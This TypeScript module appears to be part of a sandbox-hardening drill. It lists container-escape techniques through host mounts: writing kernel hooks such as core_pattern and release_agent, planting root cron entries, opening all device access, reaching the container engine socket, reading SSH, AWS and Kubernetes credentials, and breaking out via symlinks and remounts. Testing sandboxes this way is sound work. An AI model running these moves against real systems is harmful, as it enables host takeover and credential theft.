/** B: what a mount gives away. */
import { AT_FDCWD, O_CREAT, O_RDWR, O_TMPFILE, O_TRUNC, O_WRONLY } from '../../abi/fcntl.ts';
import { MARK, askUnix, deface, mount, open, plant, steal } from '../guest/moves.ts';
import type { Program } from '../guest/program.ts';
import { ON_HOST, exploitable, given, givenTree } from '../twins.ts';
import type { Field, Grants, Technique, Twin } from '../types.ts';

const readOnly = ({ readable }: Field): Grants => ({ mounts: [{ source: readable, destination: readable }] });
const granted = ({ granted: directory }: Field): Grants => ({ mounts: [{ source: directory, destination: directory, writable: true }] });
const WRITABLE: Twin = { what: 'the directory is mounted for writing', on: 'sandbox', grants: ({ readable }) => ({ mounts: [{ source: readable, destination: readable, writable: true }] }) };
const MS_RDONLY = 1;
const MS_REMOUNT = 32;
const MS_BIND = 4096;
const MS_REC = 16_384;
const MS_SHARED = 1 << 20;

/** A way that ends with a line in a file that the host's kernel acts on. */
function kernelFile(name: string, title: string, source: string, file: string, path: string, more: readonly string[] = []): Technique {
  return {
    name, kind: 'B', title, source, needs: `the host's ${file}, writable`, path, isHarmless: false,
    program: (guest) => {
      for (const one of [file, `/host${file}`, ...more]) deface(guest, one, '|/tmp/drill %P\n');
    },
    twin: given(`/host${file}`, `the host's ${file} is mounted below /host`),
  };
}

const KERNEL_FILES: readonly Technique[] = [
  kernelFile('core-pattern', 'The host\'s kernel starts a program when a process crashes', 'CVE-2022-0811 by the same means; CDK mount-procfs', '/proc/sys/kernel/core_pattern', 'core-pattern', ['/proc/1/root/proc/sys/kernel/core_pattern']),
  kernelFile('modprobe-path', 'The host\'s kernel starts a program in place of modprobe', 'metarget mount-host-procfs', '/proc/sys/kernel/modprobe', 'proc-written', ['/proc/sys/kernel/hotplug', '/proc/sys/kernel/poweroff_cmd']),
  kernelFile('sysrq', 'The host is told to do something by sysrq', 'Linux admin-guide/sysrq.rst', '/proc/sysrq-trigger', 'proc-written', ['/proc/sys/kernel/sysrq', '/proc/sys/vm/drop_caches', '/proc/sys/vm/overcommit_memory']),
  kernelFile('uevent-helper', 'The host\'s kernel starts a program for an event of a device', 'CDK#58', '/sys/kernel/uevent_helper', 'uevent-helper', ['/sys/class/mem/null/uevent', '/sys/kernel/mm/transparent_hugepage/enabled', '/sys/power/state']),
  {
    name: 'binfmt-interpreter', kind: 'B', title: 'The host runs an interpreter of the guest for set-uid programs', source: 'Linux admin-guide/binfmt-misc.rst', needs: 'binfmt_misc of the host', path: 'binfmt', isHarmless: false,
    program: (guest) => {
      mount(guest, 'none', '/proc/sys/fs/binfmt_misc', 'binfmt_misc');
      deface(guest, '/proc/sys/fs/binfmt_misc/register', ':drill:E::drill::/caisson-drill:CF\n');
      mount(guest, 'none', '/mnt/binfmt', 'binfmt_misc');
      plant(guest, '/mnt/binfmt/register', ':drill:E::drill::/caisson-drill:CF\n');
    },
    twin: givenTree('/mnt/binfmt', 'binfmt_misc of the host is given'),
  },
  {
    name: 'debug-files', kind: 'B', title: 'Debugging files of the host\'s kernel are used', source: 'Falco "Debugfs launched in privileged container"', needs: 'debugfs or tracefs of the host', path: 'debugfs', isHarmless: false,
    program: (guest) => {
      mount(guest, 'none', '/sys/kernel/debug', 'debugfs');
      mount(guest, 'none', '/sys/kernel/tracing', 'tracefs');
      steal(guest, '/sys/kernel/debug/memory');
      mount(guest, 'none', '/mnt/debug', 'debugfs');
      plant(guest, '/mnt/debug/tracing', '1\n');
      steal(guest, '/mnt/debug/secret');
    },
    twin: givenTree('/mnt/debug', 'debugfs of the host is given'),
  },
  {
    name: 'release-agent', kind: 'B', title: 'The host\'s kernel starts a program when a control group is empty', source: 'Felix Wilhelm, 2019; CVE-2022-0492; CDK mount-cgroup', needs: 'CAP_SYS_ADMIN, or a writable cgroup mount of version 1', path: 'release-agent', isHarmless: false,
    program: (guest) => {
      for (const controller of ['rdma', 'memory', 'devices']) mount(guest, 'cgroup', '/mnt/cgroup', 'cgroup', 0, controller);
      guest.attempt('make a group', 'mkdir', guest.text('/mnt/cgroup/drill'), 0o755);
      plant(guest, '/mnt/cgroup/release_agent', '/caisson-drill\n');
      plant(guest, '/mnt/cgroup/drill/notify_on_release', '1\n');
      const child = guest.fork(() => void plant(guest, '/mnt/cgroup/drill/cgroup.procs', '0\n'));
      guest.wait(child);
    },
    twin: givenTree('/mnt/cgroup', 'the host\'s control groups are given'),
  },
  {
    name: 'devices-allow', kind: 'B', title: 'The rule of devices is widened, directly or through lxcfs', source: 'CDK rewrite-cgroup-devices, lxcfs-rw', needs: 'a cgroup mount of version 1, or lxcfs', path: 'devices-allow', isHarmless: false,
    program: (guest) => {
      mount(guest, 'cgroup', '/mnt/devices', 'cgroup', 0, 'devices');
      for (const path of ['/mnt/devices/devices.allow', '/sys/fs/cgroup/devices/devices.allow', '/var/lib/lxcfs/cgroup/devices/devices.allow']) plant(guest, path, 'a *:* rwm\n');
    },
    twin: givenTree('/mnt/devices', 'the host\'s control groups are given'),
  },
];

const HOST_PLACES: readonly Technique[] = [
  {
    name: 'engine-socket', kind: 'B', title: 'The engine is asked for a container, over its socket', source: 'CDK docker-sock-pwn; deepce sock', needs: 'a mount with the engine\'s socket', path: 'engine-socket', isHarmless: true,
    grants: ({ directory }) => ({ mounts: [{ source: directory, destination: directory, writable: true }] }),
    program: (guest, { socket }) => {
      for (const path of [socket, '/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/crio/crio.sock', '/run/podman/podman.sock']) askUnix(guest, path);
    },
    twin: ON_HOST,
  },
  {
    name: 'host-files', kind: 'B', title: 'System files of the host are written', source: 'CDK; metarget mount-host-etc', needs: 'the host\'s / or /etc, mounted', path: 'host-files-written', isHarmless: false,
    program: (guest) => {
      for (const path of ['/etc/cron.d/drill', '/etc/ld.so.preload', '/host/drill', '/host/etc/cron.d/drill', '/proc/1/root/etc/cron.d/drill', '/proc/self/root/../etc/cron.d/drill']) plant(guest, path, '* * * * * root /drill\n');
    },
    twin: givenTree('/host', 'the host\'s root directory is mounted for writing'),
  },
  {
    name: 'other-containers', kind: 'B', title: 'Files of other containers are read', source: 'CVE-2021-41091; CDK', needs: 'the engine\'s directory, mounted', path: 'other-containers', isHarmless: true,
    program: (guest) => {
      for (const path of ['/var/lib/docker/secret', '/var/lib/containers/storage/secret', '/var/lib/kubelet/pods/secret', '/proc/1/root/var/lib/docker/secret']) steal(guest, path);
    },
    twin: givenTree('/var/lib/docker', 'the engine\'s directory is mounted'),
  },
  {
    name: 'credentials', kind: 'B', title: 'Keys and tokens of the host\'s user are read', source: 'CDK ak-leakage; botb', needs: 'a home directory, mounted', path: 'credentials-read', isHarmless: true,
    program: (guest) => {
      for (const path of ['/root/.ssh/id_rsa', '/root/.aws/credentials', '/root/.docker/config.json', '/root/.kube/config', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/proc/1/root/root/.aws/credentials']) steal(guest, path);
    },
    twin: given('/root/.aws/credentials', 'a file with keys is mounted'),
  },
  {
    name: 'shared-memory', kind: 'B', title: 'Shared memory of the host is read', source: 'shm_overview(7)', needs: '/dev/shm of the host', path: 'shared-memory', isHarmless: true,
    program: (guest, { sharedMemory }) => {
      for (const path of [`/dev/shm/${sharedMemory}`, `/run/shm/${sharedMemory}`, `/proc/1/root/dev/shm/${sharedMemory}`]) steal(guest, path);
    },
    twin: ON_HOST,
  },
  {
    name: 'mount-over-host', kind: 'B', title: 'A mount below a shared one appears on the host', source: 'mount_namespaces(7)', needs: 'CAP_SYS_ADMIN and shared propagation', path: 'mount-over-host', isHarmless: false,
    grants: granted,
    program: (guest, { granted: directory }) => {
      guest.attempt('share the mount', 'mount', guest.text('none'), guest.text(directory), 0, MS_SHARED | MS_REC, 0);
      guest.sys('mkdir', guest.text(`${directory}/over`), 0o700);
      mount(guest, 'tmpfs', `${directory}/over`, 'tmpfs');
      plant(guest, `${directory}/over/file`);
      guest.attempt('share all mounts', 'mount', guest.text('none'), guest.text('/'), 0, MS_SHARED | MS_REC, 0);
    },
    twin: exploitable('mount', 'mounts that the host sees'),
  },
  {
    name: 'log-link', kind: 'B', title: 'A link among logs is followed by whoever reads them', source: 'CDK k8s_kubelet_var_log_escape; Aqua, 2019', needs: 'a log directory of the host', path: 'log-links', isHarmless: false,
    grants: granted,
    program: (guest, { granted: directory, secretFile }) => {
      guest.sys('unlink', guest.text(`${directory}/0.log`));
      guest.attempt('make a link', 'symlink', guest.text(secretFile), guest.text(`${directory}/0.log`));
    },
    afterwards: async (hands, { granted: directory }) => hands.copyOut(`${directory}/0.log`),
    twin: { what: 'a reader on the host that follows links', on: 'sandbox' },
  },
];

/** Every call that changes a file by its name. */
function changeByName(guest: Program, directory: string): void {
  const [file, other] = [`${directory}/file`, `${directory}/other`].map((path) => guest.text(path)) as [number, number];
  deface(guest, `${directory}/file`);
  open(guest, `${directory}/file`, O_RDWR | O_TRUNC);
  open(guest, `${directory}/made`, O_WRONLY | O_CREAT);
  open(guest, directory, O_TMPFILE | O_RDWR);
  guest.attempt('truncate', 'truncate', file, 0);
  guest.attempt('chmod', 'fchmodat', AT_FDCWD, file, 0o777);
  guest.attempt('chown', 'fchownat', AT_FDCWD, file, 1, 1, 0);
  guest.attempt('utimes', 'utimensat', AT_FDCWD, file, guest.words(1, 1, 1, 1), 0);
  guest.attempt('setxattr', 'setxattr', file, guest.text('user.drill'), guest.text('x'), 1, 0);
  guest.attempt('mkdir', 'mkdirat', AT_FDCWD, guest.text(`${directory}/directory`), 0o777);
  guest.attempt('mknod', 'mknodat', AT_FDCWD, guest.text(`${directory}/fifo`), 0o010666, 0);
  guest.attempt('symlink', 'symlinkat', guest.text('/'), AT_FDCWD, guest.text(`${directory}/link`));
  guest.attempt('link', 'linkat', AT_FDCWD, file, AT_FDCWD, other, 0);
  guest.attempt('rename', 'renameat2', AT_FDCWD, file, AT_FDCWD, other, 0);
  guest.attempt('unlink', 'unlinkat', AT_FDCWD, file, 0);
}

const READ_ONLY: readonly Technique[] = [
  {
    name: 'change-read-only', kind: 'B', title: 'A directory that is mounted for reading is changed by name', source: 'mount(2)', needs: 'a read-only mount of the host', isHarmless: true, grants: readOnly,
    program: (guest, { readable }) => changeByName(guest, readable),
    twin: WRITABLE,
  },
  {
    name: 'change-read-only-open', kind: 'B', title: 'A file that is open for reading is opened again, mapped or copied into', source: 'proc_pid_fd(5); CVE-2019-5736 by the same means', needs: 'a read-only mount of the host', isHarmless: true, grants: readOnly,
    program: (guest, { readable }) => {
      const file = open(guest, `${readable}/file`);
      const name = guest.buffer(32);
      for (const [index, byte] of [...new TextEncoder().encode('/proc/self/fd/')].entries()) guest.save(1, name + index, byte);
      guest.save(1, name + 14, guest.plus(file, 48));
      const again = guest.attempt('open again for writing', 'openat', AT_FDCWD, name, O_RDWR, 0);
      for (const fd of [file, again]) {
        guest.attempt('write', 'pwrite64', fd, guest.text(MARK), MARK.length, 0);
        guest.attempt('truncate', 'ftruncate', fd, 1);
        guest.attempt('allocate', 'fallocate', fd, 0, 0, 0x8000);
        guest.attempt('chmod', 'fchmod', fd, 0o777);
        const address = guest.attempt('map for writing', 'mmap', 0, 4096, 3, 1, fd, 0);
        guest.when(address, '>', 0, () => void guest.tell('write to it, the signal', guest.guarded(() => guest.save(8, address, 0x6c6c_6972_64))));
      }
      guest.attempt('copy a range into it', 'copy_file_range', open(guest, '/caisson-drill'), 0, file, 0, 64, 0);
      guest.attempt('make the map writable', 'mprotect', guest.sys('mmap', 0, 4096, 1, 1, file, 0), 4096, 3);
    },
    twin: WRITABLE,
  },
  {
    name: 'remount-read-only', kind: 'B', title: 'A mount for reading is mounted again for writing', source: 'mount(2) MS_REMOUNT', needs: 'CAP_SYS_ADMIN and a read-only mount', isHarmless: true, grants: readOnly,
    program: (guest, { readable }) => {
      const place = guest.text(readable);
      guest.attempt('remount', 'mount', guest.text('none'), place, 0, MS_REMOUNT | MS_BIND, 0);
      deface(guest, `${readable}/file`);
      guest.attempt('remount the file system', 'mount', guest.text('none'), place, 0, MS_REMOUNT, 0);
      deface(guest, `${readable}/file`);
      guest.attempt('set attributes', 'mount_setattr', AT_FDCWD, place, 0, guest.words(0, MS_RDONLY, 0, 0), 32);
      deface(guest, `${readable}/file`);
      mount(guest, readable, '/mnt/bound', '', MS_BIND);
      deface(guest, '/mnt/bound/file');
      guest.attempt('unmount', 'umount2', place, 2);
      plant(guest, `${readable}/file`);
    },
    twin: WRITABLE,
  },
  {
    name: 'mount-above', kind: 'B', title: 'A directory that is mounted for writing is left by dots, links and names', source: 'CWE-22, CWE-59; CVE-2018-15664', needs: 'a mount of the host that can be written', isHarmless: true, grants: granted,
    program: (guest, { granted: directory, secretFile, keptFile }) => {
      const place = open(guest, directory, 0x1_0000);
      for (const path of ['../secret', '../../../../../../../../..' + secretFile]) {
        const fd = guest.attempt(`open ${path} from the mount`, 'openat', place, guest.text(path), 0, 0);
        const buffer = guest.buffer(4096);
        guest.when(fd, '>=', 0, () => guest.loot(buffer, guest.sys('read', fd, buffer, 4096)));
      }
      for (const [target, name] of [[secretFile, 'way'], ['../secret', 'near'], ['..', 'up']] as const) guest.sys('symlinkat', guest.text(target), place, guest.text(name));
      for (const name of ['way', 'near', 'up/secret']) steal(guest, `${directory}/${name}`);
      deface(guest, `${directory}/up/kept`);
      guest.attempt('link a file from outside', 'linkat', AT_FDCWD, guest.text(keptFile), place, guest.text('taken'), 0x400);
      deface(guest, `${directory}/taken`);
      guest.attempt('move a file out', 'renameat2', place, guest.text('file'), place, guest.text('../moved'), 0);
      plant(guest, `${directory}/../planted`);
    },
    twin: ON_HOST,
  },
];

export const MOUNT_TECHNIQUES: readonly Technique[] = [...KERNEL_FILES, ...HOST_PLACES, ...READ_ONLY];
